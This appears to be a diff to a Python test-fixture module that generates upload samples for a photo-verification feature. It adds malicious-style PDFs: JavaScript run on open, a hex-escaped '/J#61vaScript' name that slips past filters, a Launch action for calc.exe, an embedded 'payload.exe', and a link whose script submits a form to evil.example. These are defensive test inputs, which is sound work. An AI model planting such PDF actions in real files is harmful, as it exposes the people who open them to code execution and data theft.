@@ -5,15 +5,19 @@ two different people. Variants of one photo stand in for a passport photo and a
 selfie of the same person.
 """
 
+import functools
 import io
 import struct
 import zlib
+from collections.abc import Callable
 from pathlib import Path
 
 import matplotlib
 import numpy as np
 import skimage
 from PIL import Image, ImageEnhance, ImageFilter
+from pypdf import PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
 
 ASTRONAUT = Path(skimage.__file__).parent / "data" / "astronaut.png"
 GRACE_HOPPER = Path(matplotlib.__file__).parent / "mpl-data" / "sample_data" / "grace_hopper.jpg"
@@ -88,8 +92,56 @@ def png(image_bytes: bytes) -> bytes:
     return encode(Image.open(io.BytesIO(image_bytes)), "PNG")
 
 
-def pdf() -> bytes:
-    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+@functools.cache
+def pdf(change=None) -> bytes:
+    """A one-page PDF written by pypdf; `change(writer)` may add to it first."""
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    if change:
+        change(writer)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def _open_action(action: dict) -> Callable[[PdfWriter], None]:
+    def change(writer: PdfWriter) -> None:
+        writer.root_object[NameObject("/OpenAction")] = _dictionary(action)
+
+    return change
+
+
+def _dictionary(entries: dict) -> DictionaryObject:
+    return DictionaryObject({NameObject(key): NameObject(value) if value.startswith("/") else TextStringObject(value) for key, value in entries.items()})
+
+
+def pdf_with_javascript() -> bytes:
+    return pdf(_open_action({"/S": "/JavaScript", "/JS": "app.alert('hello')"}))
+
+
+def pdf_with_javascript_in_a_disguised_name() -> bytes:
+    """/J#61vaScript is /JavaScript with one letter written as a hex escape, which PDF readers decode."""
+    return pdf_with_javascript().replace(b"/S /JavaScript", b"/S /J#61vaScript")
+
+
+def pdf_with_launch_action() -> bytes:
+    return pdf(_open_action({"/S": "/Launch", "/F": "calc.exe"}))
+
+
+def pdf_with_embedded_file() -> bytes:
+    return pdf(lambda writer: writer.add_attachment("payload.exe", b"MZ not really a program"))
+
+
+def pdf_with_javascript_on_a_link() -> bytes:
+    """A page whose link annotation runs JavaScript when clicked."""
+
+    def change(writer: PdfWriter) -> None:
+        annotation = _dictionary({"/Type": "/Annot", "/Subtype": "/Link"})
+        annotation[NameObject("/Rect")] = ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)])
+        annotation[NameObject("/A")] = _dictionary({"/S": "/JavaScript", "/JS": "this.submitForm('https://evil.example')"})
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([annotation])
+
+    return pdf(change)
 
 
 def text() -> bytes:
@@ -145,3 +197,41 @@ def y4m_video(image_bytes: bytes, frames: int = 10) -> bytes:
     cr = np.asarray(Image.fromarray(cr).resize(half))
     frame = b"FRAME\n" + y.tobytes() + cb.tobytes() + cr.tobytes()
     return f"YUV4MPEG2 W{image.width} H{image.height} F10:1 Ip A1:1 C420jpeg\n".encode() + frame * frames
+
+
+# Images of extreme shape and unusual kinds, which the upload must either accept or
+# refuse with the field's own message (never an error page).
+
+
+def strip(width: int, height: int) -> bytes:
+    """A greyscale PNG of a hundred-odd bytes, for shapes no photo has (1 x 100,000 px)."""
+    return encode(Image.new("L", (width, height), 128), "PNG")
+
+
+def sixteen_bit_gradient() -> bytes:
+    """A 16-bit greyscale PNG: a left-to-right gradient from black to white."""
+    pixels = np.tile(np.linspace(0, 65535, 256).astype(np.uint16), (64, 1))
+    return encode(Image.fromarray(pixels), "PNG")
+
+
+def cmyk_jpeg() -> bytes:
+    return encode(Image.new("CMYK", (64, 64), (0, 255, 255, 0)), "JPEG")
+
+
+def palette_with_transparency() -> bytes:
+    """A palette PNG whose colour 0 (red) is transparent, with an opaque blue square in the middle."""
+    image = Image.new("P", (64, 64), 0)
+    image.putpalette([255, 0, 0, 0, 0, 255])
+    image.paste(1, (16, 16, 48, 48))
+    return encode(image, "PNG", transparency=0)
+
+
+def animated_png() -> bytes:
+    """Two frames, red then blue."""
+    frames = [Image.new("RGB", (64, 64), colour) for colour in ("red", "blue")]
+    return encode(frames[0], "PNG", save_all=True, append_images=frames[1:], duration=100, loop=0)
+
+
+def truncated_png() -> bytes:
+    data = png(astronaut_selfie())
+    return data[: len(data) // 3]
